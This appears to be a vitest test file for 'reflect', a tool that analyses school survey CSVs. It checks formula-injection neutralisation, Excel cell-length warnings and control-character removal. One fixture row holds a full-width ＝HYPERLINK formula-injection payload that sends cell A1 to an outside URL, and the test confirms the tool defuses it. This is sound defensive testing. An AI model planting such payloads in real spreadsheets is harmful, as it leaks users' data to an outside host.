// What a spreadsheet makes of reflect's CSVs: cells it would run as formulas, and cells it cannot hold.
// Each folder is made here, as a school exports it, and analysed by the built binary.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { reflect, tempDir } from './helpers.js';

/** A folder holding `files` (name → text), and the output folder of `reflect analyze` on it. */
function analysed(files: Record<string, string>, args: string[] = []): { out: string; stderr: string } {
  const dir = tempDir();
  const folder = path.join(dir, 'forum');
  mkdirSync(folder);
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(folder, name), text);
  const out = path.join(dir, 'report');
  const run = reflect(['analyze', folder, '--out', out, ...args]);
  expect(run.code).toBe(0);
  return { out, stderr: run.stderr };
}

const rowsOf = (out: string, table: string) => parse(readFileSync(path.join(out, `${table}.csv`)), { columns: true }) as Record<string, string>[];

describe('answers typed on a Japanese keyboard', () => {
  // An exchange school's sheets: full-width ＝ ＋ － ＠ are what a Japanese IME types, and CJK Excel reads
  // them as the operators, so a cell starting with one runs as a formula like one starting with =.
  const survey = [
    'id,grade,What would you change at your school?',
    'J01,10,"＝HYPERLINK(""http://example.com/?d=""&A1,""詳細"")"',
    'J02,10,－ 部活の時間をもっと長くしてほしい',
    'J03,11,＋ more choice of electives',
    'J04,11,＠everyone should get a laptop',
    'J05,12,More choice of electives and a later start',
  ].join('\n');

  it('prefixes them with an apostrophe in responses.csv, and leaves other answers alone', () => {
    const { out } = analysed({ 'exchange-sheets.csv': `${survey}\n` });
    const text = new Map(rowsOf(out, 'responses').map((r) => [r.participant_id, r.text]));
    expect(text.get('J01')).toBe('\'＝HYPERLINK("http://example.com/?d="&A1,"詳細")');
    expect(text.get('J02')).toBe("'－ 部活の時間をもっと長くしてほしい");
    expect(text.get('J03')).toBe("'＋ more choice of electives");
    expect(text.get('J04')).toBe("'＠everyone should get a laptop");
    expect(text.get('J05')).toBe('More choice of electives and a later start');
  });
});

describe('a written reflection longer than an Excel cell holds', () => {
  // A student who pasted a whole essay into the sheet's last question: some 35,000 characters, where
  // Excel keeps 32,767 in a cell and cuts off the rest when it opens the file.
  const sentences = [
    'Our timetable changed this year so that we have a flex block every afternoon, and I use it to catch up on math or to work on my art portfolio.',
    'The teachers who know us best are the ones who let us choose how we show what we learned, like a podcast instead of an essay.',
    'When the bus is late I miss the first half of the block, which is why a later start would help students who live far from the school.',
    'I would like more hands-on projects, because I remember things I build much better than things I copy off the board.',
  ];
  const essay = Array.from({ length: 260 }, (_, i) => sentences[i % sentences.length]).join(' ');
  const sheet = [
    'id,grade,school,What is working?,What would you change? Write as much as you like.',
    'S01,11,Riverside Secondary,The flex block,A later start',
    `S02,12,Riverside Secondary,Choice in projects,"${essay}"`,
    'S03,10,Riverside Secondary,Teachers who listen,More electives',
  ].join('\n');

  it('keeps the whole text in responses.csv and says, with the file and line, that Excel would cut it short', () => {
    expect(essay.length).toBeGreaterThan(32_767);
    const { out, stderr } = analysed({ 'reflections.csv': `${sheet}\n` });
    const long = rowsOf(out, 'responses').find((r) => r.participant_id === 'S02' && r.question_id === 'q2')!;
    expect(long.text).toBe(essay);
    const warning = `reflections.csv:3: response ${long.response_id} is ${essay.length.toLocaleString('en-US')} characters long, more than the 32,767 an Excel cell holds`;
    expect(stderr).toContain(`warning: ${warning}`);
    const json = JSON.parse(readFileSync(path.join(out, 'analysis.json'), 'utf8')) as { warnings: { message: string }[] };
    expect(json.warnings.some((w) => w.message.startsWith(`response ${long.response_id} is`))).toBe(true);
    // Only that one: the other answers fit.
    expect(stderr.match(/an Excel cell holds/g)).toHaveLength(1);
  });

  it('says nothing of it when the table printed is not responses.csv', () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'reflections.csv'), `${sheet}\n`);
    const run = reflect(['analyze', path.join(dir, 'reflections.csv'), '--format', 'csv', '--table', 'themes']);
    expect(run.code).toBe(0);
    expect(run.stderr).not.toContain('an Excel cell holds');
    const printed = reflect(['analyze', path.join(dir, 'reflections.csv'), '--format', 'csv']);
    expect(printed.stderr).toContain('an Excel cell holds');
    expect(printed.stdout).toContain(essay);
  });
});

describe('control characters from a messy export', () => {
  // A FileMaker export writes a line break inside a field as a vertical tab (U+000B); a broken LMS export
  // left a NUL and a backspace in one answer further down. Read as they were, they reached every CSV:
  // R stops a field at a NUL, and pandas cannot save such a table to .xlsx.
  const answers = [
    'More choice in what we study',
    'A later start so the bus kids are not always late',
    'Teachers who know us and check in',
    'Projects where we build something real',
  ];
  const lines = ['id,grade,What else could schools do?'];
  for (let i = 1; i <= 240; i++) {
    let answer = `${answers[i % answers.length]} (${i})`;
    if (i === 3) answer = 'Two things:\x0b- a flex block\x0b- more electives';
    if (i === 230) answer = 'More hands-on\x00 projects\x08 in science';
    lines.push(`S${String(i).padStart(3, '0')},${9 + (i % 4)},"${answer}"`);
  }
  const csv = `${lines.join('\r\n')}\r\n`;

  it('reads a vertical tab as a line break, removes the rest with a warning naming the file and line, and writes no control character anywhere', () => {
    // The NUL is past the first 8 KB, which is checked for binary data.
    expect(csv.indexOf('\x00')).toBeGreaterThan(8192);
    const { out, stderr } = analysed({ 'filemaker-export.csv': csv });
    const text = new Map(rowsOf(out, 'responses').map((r) => [r.participant_id, r.text]));
    expect(text.get('S003')).toBe('Two things:\n- a flex block\n- more electives');
    expect(text.get('S230')).toBe('More hands-on projects in science');
    // a NUL is no character of any text: removed as the file is decoded, with the line it was on
    expect(stderr).toContain('warning: filemaker-export.csv:231: a zero (NUL) byte, as a bad copy or a broken export leaves, on line 231; removed');
    expect(stderr).toContain('warning: filemaker-export.csv:231: 1 response holds control characters that are not text (U+0008)');
    expect(stderr.match(/control characters/g)).toHaveLength(1);
    for (const file of ['responses.csv', 'codings.csv', 'report.md']) {
      expect(readFileSync(path.join(out, file), 'utf8')).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/);
    }
    const json = JSON.parse(readFileSync(path.join(out, 'analysis.json'), 'utf8')) as { corpus: { responses: { text: string }[] } };
    expect(json.corpus.responses.some((r) => /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/.test(r.text))).toBe(false);
  });
});
